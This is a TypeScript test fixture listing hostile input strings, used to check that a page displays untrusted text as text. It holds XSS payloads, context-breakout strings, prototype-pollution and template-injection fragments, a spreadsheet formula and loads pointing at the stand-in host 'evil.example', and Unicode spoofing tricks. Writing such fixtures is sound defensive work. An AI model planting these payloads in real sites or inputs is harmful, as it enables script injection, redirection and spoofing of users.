/** A text that somebody sends who means harm. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
  /** what of it a page must show, where it is not all of it */
  readonly seen?: string;
}

const run = 'alert(1)';
const far = 'https://evil.example';

/**
 * Texts that would run, call elsewhere or deceive if a page took them for more than text. Each begins
 * and ends with a mark of its own, so that a page that shows it can be told from one that cuts it.
 */
export const hostileTexts: readonly HostileText[] = (
  [
    ['a script', `<script>${run}</script>`],
    ['a script in capitals', `<SCRIPT>${run}</SCRIPT>`],
    ['a script within a script', `<scr<script>ipt>${run}</scr</script>ipt>`],
    ['a script from elsewhere', `<script src=${far}/x.js></script>`],
    ['a script of a module', `<script type=module>import("${far}/m.js")</script>`],
    ['a picture that fails', `<img src=x onerror=${run}>`],
    ['a picture from elsewhere', `<img src=${far}/a.png>`],
    ['a picture set', `<img srcset="${far}/b.png 1x">`],
    ['an attribute ended', `"><img src=x onerror=${run}>`],
    ['an attribute ended by one quote', `'><img src=x onerror=${run}>`],
    ['an attribute added', `" autofocus onfocus="${run}`],
    ['an attribute without quotes', `x onmouseover=${run} y`],
    ['a field that focuses', `<input autofocus onfocus=${run}>`],
    ['details that open', `<details open ontoggle=${run}>`],
    ['a video that fails', `<video><source onerror=${run}></video>`],
    ['an animation that ends', `<p style="animation:x" onanimationstart=${run}>`],
    ['a body', `<body onload=${run}>`],
    ['a marquee', `<marquee onstart=${run}>`],
    ['a link that runs', `<a href="javascript:${run}">click</a>`],
    ['an address that runs', `javascript:${run}`],
    ['an address with a tab', `java&#9;script:${run}`],
    ['an address that holds a page', `data:text/html,<script>${run}</script>`],
    ['a frame', `<iframe src="${far}"></iframe>`],
    ['a frame with its page', `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
    ['an object', `<object data="${far}/o.swf"></object>`],
    ['an embedded page', `<embed src="${far}/e">`],
    ['a form elsewhere', `<form action="${far}"><button>Send</button></form>`],
    ['a button elsewhere', `<button formaction="${far}">Send</button>`],
    ['a base', `<base href="${far}/">`],
    ['a refresh', `<meta http-equiv=refresh content="0;url=${far}">`],
    ['a style sheet', `<link rel=stylesheet href="${far}/s.css">`],
    ['a style', `<style>@import url(${far}/i.css);</style>`],
    ['a style of an attribute', `" style="background:url(${far}/c.png)`],
    ['an SVG', `<svg onload=${run}></svg>`],
    ['an SVG with a script', `<svg><script href="${far}/svg.js"/></svg>`],
    ['an SVG that animates', `<svg><animate onbegin=${run} attributeName=x dur=1s>`],
    ['an SVG that uses another', `<svg><use href="${far}/u.svg#x"/></svg>`],
    ['MathML and a style', `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`],
    ['an end of a text area', `</textarea><script>${run}</script>`],
    ['an end of a title', `</title><script>${run}</script>`],
    ['an end of JSON in a script', `</script><script>${run}</script>`],
    ['an end of a comment', `--><script>${run}</script><!--`],
    ['an end of CDATA', `]]><script>${run}</script>`],
    ['an end of a template', `</template><script>${run}</script>`],
    ['JSON', `","__proto__":{"polluted":"yes"},"x":"`],
    ['a template of braces', `{{constructor.constructor("${run}")()}}`],
    ['a template of a dollar', `\${${run}} #{${run}} <%= ${run} %>`],
    ['an entity', `&lt;script&gt;${run}&lt;/script&gt;`],
    ['a mark-up link', `[x](javascript:${run}) ![y](${far}/y.png)`],
    ['a formula', `=HYPERLINK("${far}","x")`],
    ['what turns the line around', '\u202egpj.exe\u202c\u2066x\u2069', 'gpj.exe'],
    ['characters without width', 'pay\u200bpal\u200d\u2060\ufeff', 'pay'],
    ['a null byte', `<scr\u0000ipt>${run}</scr\u0000ipt>`, `ipt>${run}</scr`],
    ['control characters', '\u001b[31mred\u0007\u0008', '[31mred'],
    ['many marks on one letter', `Z${'\u0301\u0323'.repeat(20)}`, 'Z'],
    ['pictures of several characters', '👩‍👩‍👧‍👦🏳️‍🌈🇰🇷', '👩'],
    ['separators of lines', `a\u2028${run}\u2029b`, run],
  ] as const
).map(([name, text, seen], at) => {
  const mark = `t${String(at).padStart(2, '0')}`;
  const whole = `${mark} ${text} ${mark}`;
  return { name, text: whole, seen: seen ?? text };
});

/** What is no text at all; a claim that holds it is refused. */
export const brokenTexts: readonly HostileText[] = [
  { name: 'the first half of a character', text: 'half \ud800' },
  { name: 'the second half of a character', text: '\udc00 half' },
];
